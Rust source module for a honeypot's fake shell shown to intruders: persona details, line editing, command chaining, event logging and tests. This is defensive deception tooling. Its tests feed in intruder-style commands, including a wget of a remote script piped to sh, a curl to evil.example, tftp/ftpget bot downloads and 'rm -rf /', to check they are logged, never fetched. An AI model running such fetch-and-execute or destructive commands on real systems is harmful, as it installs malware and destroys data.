//! The fake shell served to intruders who log in: a plain state machine (bytes
//! in, bytes and events out) so it is tested without sockets.
//!
//! - [`Shell`]: line editing (echo, backspace, Ctrl-C/D/U, Enter) and prompts
//! - `cmd`: one module per command family behind the `cmd::Command` enum
//! - `fs`: the persona's read-only file tree
//! - [`Persona`]: what the shell shows about the machine, built once per decky by
//!   [`Persona::for_decky`] for every service that serves the shell (ssh, telnet)

pub(crate) mod cmd;
pub(crate) mod fs;

use std::collections::BTreeMap;
use std::net::IpAddr;

use decnet_core::persona::{Distro, MotdContext, PromptStyle};

use crate::service::DeckyRuntime;

/// Longest command line kept; further typed bytes are dropped, as a terminal would beep.
pub const MAX_LINE: usize = 4096;
/// Commands kept in `history`.
pub const MAX_HISTORY: usize = 500;
/// Most pipeline/chain parts run for one line.
pub const MAX_PARTS: usize = 32;

/// What the shell shows about the machine.
#[derive(Debug, Clone)]
pub struct Persona {
    /// `hostname`.
    pub hostname: String,
    /// `uname -r`.
    pub kernel_release: String,
    /// The distro profile.
    pub distro: &'static Distro,
    /// The decky's address (shown by `ifconfig`/`ip a`).
    pub ip: IpAddr,
    /// Accounts with a home directory (besides root).
    pub users: Vec<String>,
    /// CPUs (`nproc`, `/proc/cpuinfo`).
    pub cpus: u32,
    /// Memory in kB (`free`).
    pub mem_kb: u64,
    /// Days since boot (`uptime`).
    pub uptime_days: u32,
    /// MAC address of eth0.
    pub mac: [u8; 6],
}

impl Persona {
    /// The machine a decky's shell shows, the same whichever service serves it.
    ///
    /// `hostname` and `kernel_release` override the decky's hostname and the
    /// distro's kernel; `users` get home directories. CPUs, memory, uptime and
    /// MAC come from the instance seed (under the labels SSH has always used,
    /// so a decky's ssh and telnet show one machine and restarts change nothing).
    pub fn for_decky(
        decky: &DeckyRuntime,
        hostname: Option<&str>,
        kernel_release: Option<&str>,
        users: Vec<String>,
    ) -> Persona {
        let d = decky.config.distro;
        let seed = &decky.seed;
        let mut mac = [0x52, 0x54, 0x00, 0, 0, 0];
        for (dst, src) in mac.iter_mut().skip(3).zip(seed.derive(b"ssh-mac")) {
            *dst = src;
        }
        Persona {
            hostname: hostname
                .map(str::to_owned)
                .unwrap_or_else(|| decky.config.hostname.clone()),
            kernel_release: kernel_release.unwrap_or(d.kernel_release).to_owned(),
            distro: d,
            ip: decky.config.ip,
            users,
            cpus: [1, 2, 2, 4, 4, 8]
                .get(usize::try_from(seed.pick(b"ssh-cpus", 6)).unwrap_or(0))
                .copied()
                .unwrap_or(2),
            mem_kb: [2_030_000, 4_025_000, 8_140_000, 16_310_000]
                .get(usize::try_from(seed.pick(b"ssh-mem", 4)).unwrap_or(0))
                .copied()
                .unwrap_or(4_025_000),
            uptime_days: 3 + u32::try_from(seed.pick(b"ssh-uptime", 200)).unwrap_or(0),
            mac,
        }
    }

    /// What an interactive login prints before the first prompt: the release's
    /// own MOTD, then `Last login:` (26 hours before `now`, from `peer`) where
    /// the release's sshd prints one; `\r\n` line ends.
    pub fn login_banner(&self, peer: IpAddr, now: chrono::DateTime<chrono::Utc>) -> String {
        let mut text = self.distro.motd(&MotdContext {
            hostname: &self.hostname,
            kernel_release: &self.kernel_release,
            ip: self.ip,
        });
        if self.distro.last_login {
            let when = now - chrono::Duration::hours(26);
            text.push_str(&format!(
                "Last login: {} from {}\n",
                when.format("%a %b %e %H:%M:%S %Y"),
                peer
            ));
        }
        text.replace('\n', "\r\n")
    }

    /// `/proc/version` with the persona's kernel release.
    pub fn proc_version(&self) -> String {
        format!(
            "Linux version {} ({}) {}\n",
            self.kernel_release, self.distro.kernel_compiler, self.distro.kernel_build
        )
    }
}

/// Something the shell saw that is worth an event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ShellEvent {
    /// A command line was entered.
    Command {
        /// The line as typed.
        command: String,
        /// Working directory when it ran.
        cwd: String,
        /// Logged-in user.
        user: String,
    },
    /// A download tool was pointed at a URL (never fetched).
    Download {
        /// The URL.
        url: String,
        /// `wget`, `curl`, `tftp`, `ftpget`.
        tool: String,
        /// The command part that named it.
        command: String,
    },
}

/// What feeding bytes to the shell produced.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Step {
    /// Bytes for the terminal.
    pub output: Vec<u8>,
    /// Events to emit.
    pub events: Vec<ShellEvent>,
    /// The shell exited (`exit`, `logout`, Ctrl-D on an empty line).
    pub exit: bool,
}

/// Where the session is: cwd, user, environment, history.
#[derive(Debug, Clone)]
pub struct State {
    /// The machine.
    pub persona: Persona,
    /// Its files.
    pub fs: fs::Fs,
    /// Logged-in user.
    pub user: String,
    /// Their home.
    pub home: String,
    /// Working directory.
    pub cwd: String,
    /// Exported variables.
    pub env: BTreeMap<String, String>,
    /// Command lines entered.
    pub history: Vec<String>,
}

impl State {
    /// A fresh login of `user`.
    pub fn new(persona: Persona, user: &str) -> State {
        let fs = fs::Fs::for_persona(&persona);
        let home = if user == "root" {
            "/root".to_owned()
        } else {
            format!("/home/{user}")
        };
        let mut env = BTreeMap::new();
        env.insert("HOME".to_owned(), home.clone());
        env.insert("USER".to_owned(), user.to_owned());
        env.insert("SHELL".to_owned(), "/bin/bash".to_owned());
        env.insert("HOSTNAME".to_owned(), persona.hostname.clone());
        env.insert(
            "PATH".to_owned(),
            "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".to_owned(),
        );
        State {
            persona,
            fs,
            user: user.to_owned(),
            cwd: home.clone(),
            home,
            env,
            history: Vec::new(),
        }
    }

    /// The prompt: Debian `user@host:~#` or RHEL `[user@host ~]#`.
    pub fn prompt(&self) -> String {
        let sigil = if self.user == "root" { '#' } else { '$' };
        let short = self.persona.hostname.split('.').next().unwrap_or("");
        if self.persona.distro.prompt == PromptStyle::Rhel {
            let base = if self.cwd == self.home {
                "~"
            } else if self.cwd == "/" {
                "/"
            } else {
                self.cwd.rsplit('/').next().unwrap_or("/")
            };
            format!("[{}@{} {}]{} ", self.user, short, base, sigil)
        } else {
            let shown = if self.cwd == self.home {
                "~".to_owned()
            } else if let Some(rest) = self.cwd.strip_prefix(&format!("{}/", self.home)) {
                format!("~/{rest}")
            } else {
                self.cwd.clone()
            };
            format!("{}@{}:{}{} ", self.user, short, shown, sigil)
        }
    }

    /// Runs one command line (without line editing), returning output with `\n` newlines.
    pub fn run_line(&mut self, line: &str) -> Step {
        let mut step = Step::default();
        let trimmed = line.trim();
        if trimmed.is_empty() {
            return step;
        }
        if self.history.len() >= MAX_HISTORY {
            self.history.remove(0);
        }
        self.history.push(trimmed.to_owned());
        step.events.push(ShellEvent::Command {
            command: trimmed.to_owned(),
            cwd: self.cwd.clone(),
            user: self.user.clone(),
        });
        let mut out = String::new();
        let mut last_ok = true;
        let mut prev_start = 0;
        for (sep, part) in split_chain(trimmed).into_iter().take(MAX_PARTS) {
            match sep {
                Sep::And if !last_ok => continue,
                Sep::Or if last_ok => continue,
                _ => {}
            }
            let words = words(&part, &self.env);
            let Some(cmd) = cmd::Command::parse(&words) else {
                continue;
            };
            let r = cmd.run(self, &part);
            // A pipe hides the previous command's output; a failure's message went to stderr and stays.
            if sep == Sep::Pipe && last_ok {
                out.truncate(prev_start);
            }
            prev_start = out.len();
            out.push_str(&r.out);
            step.events.extend(r.events);
            last_ok = r.status == 0;
            if r.exit {
                step.exit = true;
                break;
            }
        }
        step.output = out.into_bytes();
        step
    }
}

/// How a chain part is joined to the previous one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sep {
    /// The first part, or after `;`.
    Seq,
    /// After `&&`.
    And,
    /// After `||`.
    Or,
    /// After `|`.
    Pipe,
}

/// Splits a line on `;`, `&&`, `||` and `|` outside quotes.
pub fn split_chain(line: &str) -> Vec<(Sep, String)> {
    let mut parts = Vec::new();
    let mut cur = String::new();
    let mut sep = Sep::Seq;
    let mut quote: Option<char> = None;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        if let Some(q) = quote {
            if c == q {
                quote = None;
            }
            cur.push(c);
            continue;
        }
        let next = match c {
            '\'' | '"' => {
                quote = Some(c);
                cur.push(c);
                continue;
            }
            ';' => Sep::Seq,
            '&' if chars.peek() == Some(&'&') => {
                chars.next();
                Sep::And
            }
            '|' if chars.peek() == Some(&'|') => {
                chars.next();
                Sep::Or
            }
            '|' => Sep::Pipe,
            _ => {
                cur.push(c);
                continue;
            }
        };
        if !cur.trim().is_empty() {
            parts.push((sep, cur.trim().to_owned()));
        }
        cur.clear();
        sep = next;
        if parts.len() >= MAX_PARTS {
            return parts;
        }
    }
    if !cur.trim().is_empty() {
        parts.push((sep, cur.trim().to_owned()));
    }
    parts
}

/// Splits a command into words: whitespace-separated, quotes removed, `$VAR` expanded.
pub fn words(part: &str, env: &BTreeMap<String, String>) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut quote: Option<char> = None;
    let mut chars = part.chars().peekable();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (None, '\'' | '"') => {
                quote = Some(c);
                in_word = true;
            }
            (None | Some('"'), '$') => {
                let mut name = String::new();
                while let Some(&n) = chars.peek() {
                    if n.is_ascii_alphanumeric() || n == '_' {
                        name.push(n);
                        chars.next();
                    } else {
                        break;
                    }
                }
                if name.is_empty() {
                    cur.push('$');
                } else if let Some(v) = env.get(&name) {
                    cur.push_str(v);
                }
                in_word = true;
            }
            (None, c) if c.is_whitespace() => {
                if in_word {
                    out.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            (_, c) => {
                cur.push(c);
                in_word = true;
            }
        }
    }
    if in_word {
        out.push(cur);
    }
    out
}

/// An interactive shell on a terminal: line editing on top of [`State`].
#[derive(Debug, Clone)]
pub struct Shell {
    state: State,
    line: Vec<u8>,
    esc: EscState,
    exited: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum EscState {
    None,
    Esc,
    Csi,
}

impl Shell {
    /// A shell for `user` on the persona's machine.
    pub fn new(persona: Persona, user: &str) -> Shell {
        Shell {
            state: State::new(persona, user),
            line: Vec::new(),
            esc: EscState::None,
            exited: false,
        }
    }

    /// The session state.
    pub fn state(&self) -> &State {
        &self.state
    }

    /// What a login shows: the prompt.
    pub fn banner(&self) -> Vec<u8> {
        self.state.prompt().into_bytes()
    }

    /// Runs one `exec` command: output with `\n` newlines, events, exit status.
    pub fn exec(&mut self, command: &str) -> (Vec<u8>, Vec<ShellEvent>, u32) {
        let step = self.state.run_line(command);
        let unknown = step.output.ends_with(b": command not found\n");
        (step.output, step.events, if unknown { 127 } else { 0 })
    }

    /// Feeds typed bytes; returns what the terminal shows and what happened.
    pub fn feed(&mut self, input: &[u8]) -> Step {
        let mut step = Step::default();
        for &b in input {
            if self.exited {
                break;
            }
            match self.esc {
                EscState::Esc => {
                    self.esc = if b == b'[' || b == b'O' {
                        EscState::Csi
                    } else {
                        EscState::None
                    };
                    continue;
                }
                EscState::Csi => {
                    // Cursor keys and the like end with a byte in 0x40..=0x7e; they are ignored.
                    if (0x40..=0x7e).contains(&b) {
                        self.esc = EscState::None;
                    }
                    continue;
                }
                EscState::None => {}
            }
            match b {
                b'\r' | b'\n' => {
                    step.output.extend_from_slice(b"\r\n");
                    let line = String::from_utf8_lossy(&self.line).into_owned();
                    self.line.clear();
                    let r = self.state.run_line(&line);
                    step.output.extend_from_slice(&crlf(&r.output));
                    step.events.extend(r.events);
                    if r.exit {
                        self.exited = true;
                        step.exit = true;
                        break;
                    }
                    step.output
                        .extend_from_slice(self.state.prompt().as_bytes());
                }
                0x03 => {
                    self.line.clear();
                    step.output.extend_from_slice(b"^C\r\n");
                    step.output
                        .extend_from_slice(self.state.prompt().as_bytes());
                }
                0x04 => {
                    if self.line.is_empty() {
                        step.output.extend_from_slice(b"logout\r\n");
                        self.exited = true;
                        step.exit = true;
                        break;
                    }
                }
                0x7f | 0x08 => {
                    if self.line.is_empty() {
                        continue;
                    }
                    // Remove one whole UTF-8 character.
                    while let Some(last) = self.line.pop() {
                        if last & 0xC0 != 0x80 {
                            break;
                        }
                    }
                    step.output.extend_from_slice(b"\x08 \x08");
                }
                0x15 => {
                    for _ in 0..String::from_utf8_lossy(&self.line).chars().count() {
                        step.output.extend_from_slice(b"\x08 \x08");
                    }
                    self.line.clear();
                }
                0x0c => {
                    step.output.extend_from_slice(b"\x1b[H\x1b[2J");
                    step.output
                        .extend_from_slice(self.state.prompt().as_bytes());
                    step.output.extend_from_slice(&self.line);
                }
                0x1b => self.esc = EscState::Esc,
                b if b < 0x20 => {}
                b => {
                    if self.line.len() < MAX_LINE {
                        self.line.push(b);
                        step.output.push(b);
                    }
                }
            }
        }
        step
    }
}

/// `\n` → `\r\n`, as a terminal in cooked mode shows it.
pub fn crlf(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len() + s.len() / 8);
    for &b in s {
        if b == b'\n' {
            out.push(b'\r');
        }
        out.push(b);
    }
    out
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use decnet_core::persona::distro;
    use proptest::prelude::*;

    pub(crate) fn persona(slug: &str) -> Persona {
        let d = distro(slug).unwrap();
        Persona {
            hostname: "web-prod-03".into(),
            kernel_release: d.kernel_release.into(),
            distro: d,
            ip: "10.0.0.5".parse().unwrap(),
            users: vec!["root".into(), "admin".into()],
            cpus: 2,
            mem_kb: 4_025_000,
            uptime_days: 41,
            mac: [0x52, 0x54, 0x00, 0x12, 0x34, 0x56],
        }
    }

    fn run(sh: &mut Shell, line: &str) -> (String, Vec<ShellEvent>) {
        let mut input = line.as_bytes().to_vec();
        input.push(b'\r');
        let s = sh.feed(&input);
        (String::from_utf8_lossy(&s.output).into_owned(), s.events)
    }

    fn runtime(name: &str, slug: &str) -> DeckyRuntime {
        DeckyRuntime {
            config: decnet_core::config::model::DeckyConfig {
                name: name.into(),
                ip: "127.42.0.9".parse().unwrap(),
                hostname: "files-ops-07".into(),
                os_family: decnet_core::persona::OsFamily::Linux,
                distro: distro(slug).unwrap(),
                windows: None,
                archetype: None,
                services: vec![],
            },
            seed: decnet_core::seed::InstanceSeed::derive_for(b"k", name),
            data_dir: std::path::PathBuf::from("/nonexistent"),
            limits: decnet_core::config::model::Limits::DEFAULT,
        }
    }

    #[test]
    fn the_builder_gives_one_machine_per_decky_whatever_service_asks() {
        let rt = runtime("d1", "rocky9");
        let a = Persona::for_decky(&rt, None, None, vec!["root".into()]);
        let b = Persona::for_decky(&rt, None, None, vec!["root".into()]);
        assert_eq!(
            (a.cpus, a.mem_kb, a.uptime_days, a.mac),
            (b.cpus, b.mem_kb, b.uptime_days, b.mac)
        );
        assert_eq!(a.hostname, "files-ops-07");
        assert_eq!(a.kernel_release, "5.14.0-362.8.1.el9_3.x86_64");
        assert_eq!(a.ip, rt.config.ip);
        assert_eq!(&a.mac[..3], &[0x52, 0x54, 0x00]);
        let o = Persona::for_decky(&rt, Some("db01"), Some("5.14.0-1"), vec![]);
        assert_eq!(
            (o.hostname.as_str(), o.kernel_release.as_str()),
            ("db01", "5.14.0-1")
        );
        let macs: std::collections::HashSet<[u8; 6]> = (0..10)
            .map(|i| {
                Persona::for_decky(&runtime(&format!("d{i}"), "debian"), None, None, vec![]).mac
            })
            .collect();
        assert!(macs.len() > 5, "{macs:?}");
    }

    // Regression: every distro's login linked `https://help.<os_id>.com`.
    #[test]
    fn login_banners_are_the_releases_own_motd() {
        let now = chrono::DateTime::parse_from_rfc3339("2024-03-05T12:00:00Z")
            .unwrap()
            .with_timezone(&chrono::Utc);
        let peer: IpAddr = "203.0.113.9".parse().unwrap();
        let banner = |slug: &str| persona(slug).login_banner(peer, now);
        assert_eq!(
            banner("debian"),
            "Linux web-prod-03 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64\r\n\r\n\
             The programs included with the Debian GNU/Linux system are free software;\r\n\
             the exact distribution terms for each program are described in the\r\n\
             individual files in /usr/share/doc/*/copyright.\r\n\r\n\
             Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent\r\n\
             permitted by applicable law.\r\n\
             Last login: Mon Mar  4 10:00:00 2024 from 203.0.113.9\r\n"
        );
        let ubuntu = banner("ubuntu22");
        assert!(ubuntu.starts_with("Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-91-generic x86_64)\r\n\r\n * Documentation:  https://help.ubuntu.com\r\n"), "{ubuntu}");
        assert_eq!(
            banner("rocky9"),
            "Activate the web console with: systemctl enable --now cockpit.socket\r\n\r\n\
             Last login: Mon Mar  4 10:00:00 2024 from 203.0.113.9\r\n"
        );
        assert_eq!(
            banner("centos7"),
            "Last login: Mon Mar  4 10:00:00 2024 from 203.0.113.9\r\n"
        );
        let alpine = banner("alpine");
        assert!(alpine.starts_with("Welcome to Alpine!\r\n"), "{alpine}");
        assert!(!alpine.contains("Last login"), "{alpine}");
        for d in decnet_core::persona::DISTROS
            .iter()
            .filter(|d| d.os_id != "ubuntu")
        {
            let b = banner(d.slug);
            assert!(!b.contains("help."), "{}: {b}", d.slug);
            assert!(!b.replace("\r\n", "").contains('\n'), "{}: bare LF", d.slug);
        }
    }

    #[test]
    fn prompts_follow_the_distro() {
        let sh = Shell::new(persona("ubuntu22"), "root");
        assert_eq!(sh.banner(), b"root@web-prod-03:~# ");
        let sh = Shell::new(persona("rocky9"), "admin");
        assert_eq!(sh.banner(), b"[admin@web-prod-03 ~]$ ");
    }

    #[test]
    fn line_editing_echoes_erases_and_cancels() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let s = sh.feed(b"pwx\x7fd");
        assert_eq!(s.output, b"pwx\x08 \x08d");
        let s = sh.feed(b"\r");
        assert_eq!(
            String::from_utf8_lossy(&s.output),
            "\r\n/root\r\nroot@web-prod-03:~# "
        );
        assert_eq!(
            s.events,
            vec![ShellEvent::Command {
                command: "pwd".into(),
                cwd: "/root".into(),
                user: "root".into()
            }]
        );
        let s = sh.feed(b"rm -rf /\x03");
        assert!(s.output.ends_with(b"^C\r\nroot@web-prod-03:~# "));
        assert!(s.events.is_empty());
        // Arrow keys are swallowed, not echoed.
        let s = sh.feed(b"\x1b[A\x1b[D");
        assert!(s.output.is_empty());
        let s = sh.feed(b"\x04");
        assert!(s.exit);
        assert_eq!(s.output, b"logout\r\n");
    }

    #[test]
    fn uname_reports_the_persona_kernel() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, _) = run(&mut sh, "uname -a");
        assert!(
            out.contains("Linux web-prod-03 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\r\n"),
            "{out}"
        );
        assert!(run(&mut sh, "uname -r")
            .0
            .contains("\r\n5.15.0-91-generic\r\n"));
        assert!(run(&mut sh, "uname").0.contains("\r\nLinux\r\n"));
        assert!(run(&mut sh, "uname -m").0.contains("\r\nx86_64\r\n"));
        assert!(run(&mut sh, "uname -n").0.contains("\r\nweb-prod-03\r\n"));
    }

    #[test]
    fn cat_ls_cd_walk_the_persona_tree() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, _) = run(&mut sh, "cat /etc/os-release");
        assert!(out.contains("PRETTY_NAME=\"Ubuntu 22.04.4 LTS\""), "{out}");
        let (out, _) = run(&mut sh, "cat /proc/version");
        assert!(out.contains("Linux version 5.15.0-91-generic (buildd@"));
        let (out, _) = run(&mut sh, "cat /nope");
        assert!(out.contains("cat: /nope: No such file or directory"));
        let (out, _) = run(&mut sh, "cd /etc");
        assert!(out.ends_with("root@web-prod-03:/etc# "), "{out}");
        let (out, _) = run(&mut sh, "ls");
        assert!(out.contains("passwd") && out.contains("hostname"), "{out}");
        let (out, _) = run(&mut sh, "ls -la /root");
        assert!(
            out.contains(".bash_history") && out.contains("drwx"),
            "{out}"
        );
        let (out, _) = run(&mut sh, "cd /nowhere");
        assert!(out.contains("bash: cd: /nowhere: No such file or directory"));
        run(&mut sh, "cd");
        assert_eq!(sh.state().cwd, "/root");
    }

    #[test]
    fn unknown_commands_and_chains() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, ev) = run(&mut sh, "foo --bar");
        assert!(out.contains("\r\nfoo: command not found\r\n"), "{out}");
        assert_eq!(ev.len(), 1);
        let (out, _) = run(&mut sh, "echo a; echo b && echo c");
        assert!(out.contains("a\r\nb\r\nc\r\n"), "{out}");
        let (out, _) = run(&mut sh, "false && echo no || echo yes");
        assert!(out.contains("yes") && !out.contains("no\r\n"), "{out}");
        let (out, _) = run(&mut sh, "cat /etc/passwd | grep root");
        assert!(!out.contains("daemon"), "{out}");
        let (out, _) = run(&mut sh, "export FOO=bar; echo \"$FOO\" '$FOO'");
        assert!(out.contains("bar $FOO\r\n"), "{out}");
    }

    #[test]
    fn downloads_are_captured_never_fetched() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, ev) = run(
            &mut sh,
            "cd /tmp; wget http://203.0.113.7/x.sh -O- | sh; curl -fsSL https://evil.example/a",
        );
        assert!(
            out.contains("Resolving 203.0.113.7") || out.contains("Connecting to 203.0.113.7"),
            "{out}"
        );
        let dl: Vec<_> = ev
            .iter()
            .filter_map(|e| match e {
                ShellEvent::Download { url, tool, .. } => Some((url.as_str(), tool.as_str())),
                _ => None,
            })
            .collect();
        assert_eq!(
            dl,
            vec![
                ("http://203.0.113.7/x.sh", "wget"),
                ("https://evil.example/a", "curl")
            ]
        );
        let (_, ev) = run(
            &mut sh,
            "tftp -g -r bot 198.51.100.2; ftpget 198.51.100.3 bot bot",
        );
        assert_eq!(
            ev.iter()
                .filter(|e| matches!(e, ShellEvent::Download { .. }))
                .count(),
            2
        );
    }

    #[test]
    fn exec_returns_plain_newlines_and_status() {
        let mut sh = Shell::new(persona("ubuntu22"), "root");
        let (out, ev, st) = sh.exec("id");
        assert_eq!(out, b"uid=0(root) gid=0(root) groups=0(root)\n");
        assert_eq!(ev.len(), 1);
        assert_eq!(st, 0);
        let (_, _, st) = sh.exec("nmapx");
        assert_eq!(st, 127);
        for c in [
            "whoami", "hostname", "ps aux", "w", "uptime", "ifconfig", "ip a", "free -m", "df -h",
            "history", "which ls", "nproc", "sudo -l", "exit",
        ] {
            let (out, _, _) = sh.exec(c);
            assert!(!out.is_empty() || c == "exit", "{c} printed nothing");
        }
    }

    proptest! {
        #[test]
        fn the_shell_survives_any_input(input in proptest::collection::vec(any::<u8>(), 0..2048)) {
            let mut sh = Shell::new(persona("debian"), "root");
            let _ = sh.feed(&input);
            let mut st = State::new(persona("rocky9"), "admin");
            let _ = st.run_line(&String::from_utf8_lossy(&input));
        }

        #[test]
        fn the_line_stays_bounded(input in proptest::collection::vec(0x20u8..0x7f, 0..10000)) {
            let mut sh = Shell::new(persona("debian"), "root");
            let _ = sh.feed(&input);
            prop_assert!(sh.line.len() <= MAX_LINE);
        }
    }
}
